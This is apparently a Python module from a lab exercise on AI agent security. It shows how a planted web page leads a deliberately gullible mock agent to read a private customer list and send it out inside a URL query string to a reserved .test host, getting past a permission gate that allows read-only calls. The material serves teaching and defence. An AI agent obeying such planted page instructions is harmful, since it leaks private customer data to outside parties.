"""Exercise 12: data can leave through a tool that only reads.

Pack §2.10 and lab exercise 12 ("Break the gate"). The permission gate of :mod:`toolkit.gate`
stops state-changing calls after the run has read outside content. But a read-only,
open-world tool such as ``fetch_url`` also sends something out: the URL itself. A planted page
asks the agent to open an address with the customer list in its query string; a gullible
agent reads the list with a private, read-only tool and fetches that address. Every call is
read-only, so the gate allows all three, taint or not. The leak is in :data:`FETCHED_URLS`.

:class:`ExfiltratingModel` is a deliberately gullible mock, not a real LLM. The page and the
private data come from ``data/attacks.json`` (``exfiltration_page``, ``private_data``); every
address uses the reserved ``.test`` domain. Designing the fix, and saying what it costs, is
the exercise, so none is given here.
"""

from __future__ import annotations

import re
from urllib.parse import quote, unquote

from .gate import PermissionGate
from .injection import ATTACKS
from .loop import AgentResult, call, run_agent
from .registry import ToolRegistry

__all__ = ["EXFILTRATION_PAGE", "PRIVATE_DATA", "FETCHED_URLS", "PORTAL_URL",
           "make_exfiltration_registry", "ExfiltratingModel", "exfiltration_demo", "leaked_urls"]

EXFILTRATION_PAGE: str = ATTACKS["exfiltration_page"]
PRIVATE_DATA: str = ATTACKS["private_data"]
PORTAL_URL = "https://partners.acme.test/portal"
FETCHED_URLS: list[str] = []  # every address fetch_url was asked to open: what left the machine

_TEMPLATE = re.compile(r"(https?://\S+?)<the customer list>")


def make_exfiltration_registry(page: str | None = None, fetched: list | None = None) -> ToolRegistry:
    """``fetch_url`` (read-only, open world) and ``get_customers`` (read-only, private).

    By default the portal serves :data:`EXFILTRATION_PAGE` and every address opened is
    appended to :data:`FETCHED_URLS` (cleared here). ``page`` and ``fetched`` swap in another
    planted page and another record, as exercise 12's hidden variants do.
    """
    if fetched is None:
        FETCHED_URLS.clear()
        fetched = FETCHED_URLS
    served = EXFILTRATION_PAGE if page is None else page
    registry = ToolRegistry()

    def fetch_url(url: str) -> str:
        """Open a web address and return the page's text. Changes nothing.

        Args:
            url: the full address, such as https://partners.acme.test/portal
        """
        fetched.append(url)
        if "partners.acme" in url:
            return served
        return f"(Fetched {url}: the server answered 200 OK with an empty page.)"

    def get_customers() -> str:
        """Read the company's customer list. Private data; changes nothing."""
        return PRIVATE_DATA

    registry.add(fetch_url, read_only=True, open_world=True)
    registry.add(get_customers, read_only=True, open_world=False)
    return registry


class ExfiltratingModel:
    """A gullible mock: fetch the portal, obey the page's request for the customer list,
    then summarise. It reads the list with ``get_customers`` and fetches the page's address
    with the list, URL-encoded, in place of ``<the customer list>``."""

    def __init__(self, url: str = PORTAL_URL) -> None:
        self.url = url
        self.turn = 0
        self.target: str | None = None

    def respond(self, messages: list, tools: list) -> dict:
        self.turn += 1
        if self.turn == 1:
            return {"tool_calls": [call("c1", "fetch_url", url=self.url)]}
        last = next((m for m in reversed(messages) if m.get("role") == "tool"), None)
        text = (last or {}).get("content") or ""
        if self.target is None:
            found = _TEMPLATE.search(text)
            if found and not (last or {}).get("is_error"):
                self.target = found.group(1)
                return {"tool_calls": [call("c2", "get_customers")]}
        elif (last or {}).get("name") == "get_customers" and not last.get("is_error"):
            data = text.removeprefix('<tool_output trust="untrusted">\n').removesuffix("\n</tool_output>")
            return {"tool_calls": [call("c3", "fetch_url", url=self.target + quote(data))]}
        return {"content": "Summary: the Acme partner portal asks visitors to verify their session."}


def leaked_urls(urls: list[str] | None = None) -> list[str]:
    """The fetched addresses that carry any customer's e-mail address."""
    urls = FETCHED_URLS if urls is None else urls
    emails = re.findall(r"[\w.+-]+@[\w.-]+", PRIVATE_DATA)
    return [u for u in urls if any(e in unquote(u) for e in emails)]


def exfiltration_demo(defended: bool = True, gate: PermissionGate | None = None,
                      wrap_outputs: bool | None = None
                      ) -> tuple[AgentResult, list[str], PermissionGate | None]:
    """Run the attack once. Returns the run, the addresses that leaked data, and the gate.

    Defended means what :func:`toolkit.injection_demo` means by it, for this task's tools: an
    allowlist of both, and outputs wrapped as untrusted. Both tools only read, so the gate
    allows every call and the customer list still leaves in a URL. ``gate`` replaces the
    default gate (to try a fix); undefended runs with no gate at all.
    """
    registry = make_exfiltration_registry()
    if gate is None and defended:
        gate = PermissionGate(allow={"fetch_url", "get_customers"})
    wrap = defended if wrap_outputs is None else wrap_outputs
    result = run_agent(ExfiltratingModel(), registry, f"What does {PORTAL_URL} say?",
                       gate=gate, wrap_outputs=wrap)
    return result, leaked_urls(), gate
